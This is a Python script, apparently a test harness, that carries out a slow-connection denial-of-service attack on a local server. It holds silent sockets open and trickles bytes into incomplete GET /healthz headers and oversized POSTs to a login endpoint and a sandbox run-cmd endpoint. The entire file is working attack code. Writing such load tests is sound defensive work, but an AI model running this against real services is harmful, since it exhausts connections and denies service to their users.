"""Connections that take what they can and give nothing: silent, half a head, half a body. Usage:

    attack.py PORT SILENT SLOW_HEADS SLOW_BODIES < authorization

Opens them all, sends each slow one a byte a second, opens anew what the server closed (at a bounded
rate, so that the attacker's own work does not hide the server's), and goes on until its input ends.
Prints `open` once every connection has been made, and at the end how many it made in all.
"""

import errno
import resource
import select
import socket
import sys
import time

TICKS = 20  # a second
REOPEN_PER_TICK = 40


def main() -> None:
    port, *counts = (int(a) for a in sys.argv[1:5])
    token = sys.stdin.readline().strip()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    login = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: t\r\nContent-Length: 4000\r\n\r\n{"
    run = (f"POST /agent/sandboxes/sandboxes/run-cmd HTTP/1.1\r\nHost: t\r\nUser-Agent: a\r\nAuthorization: Bearer {token}\r\n"
           "X-Request-ID: 11111111-2222-4333-8444-555555555555\r\nContent-Type: application/json\r\n"
           "Content-Length: 100000\r\n\r\n{").encode()
    kinds = [b""] * counts[0] + [b"GET /healthz HTTP/1.1\r\nHost: t\r\nX: "] * counts[1] + \
            [(login, run)[n % 2] for n in range(counts[2])]
    poll = select.epoll()
    poll.register(sys.stdin, select.EPOLLIN)
    sockets: dict[int, tuple[socket.socket, bytes]] = {}
    waiting = list(reversed(kinds))
    made, said = 0, False

    def open_one(first: bytes) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        code = sock.connect_ex(("127.0.0.1", port))
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            waiting.append(first)
            return
        sockets[sock.fileno()] = (sock, first)
        poll.register(sock, select.EPOLLIN | select.EPOLLOUT | select.EPOLLONESHOT)

    tick = 0
    while True:
        start = time.monotonic()
        for _ in range(min(len(waiting), REOPEN_PER_TICK if said else 500)):
            open_one(waiting.pop())
        for fd, event in poll.poll(0, 20_000):
            if fd == sys.stdin.fileno():
                print(made, flush=True)
                return
            sock, first = sockets[fd]
            if event & select.EPOLLOUT and not event & (select.EPOLLHUP | select.EPOLLERR):
                made += 1
                try:
                    sock.send(first or b"")
                except OSError:
                    pass
                poll.modify(fd, select.EPOLLIN)
            else:
                poll.unregister(fd)
                del sockets[fd]
                sock.close()
                waiting.append(first)
        for n, (sock, first) in enumerate(sockets.values()):
            if first and n % TICKS == tick % TICKS:
                try:
                    sock.send(b"a")
                except OSError:
                    pass  # the next turn sees that it was closed
        if not said and made >= len(kinds):
            said = True
            print("open", flush=True)
        tick += 1
        time.sleep(max(0.0, 1 / TICKS - (time.monotonic() - start)))


main()
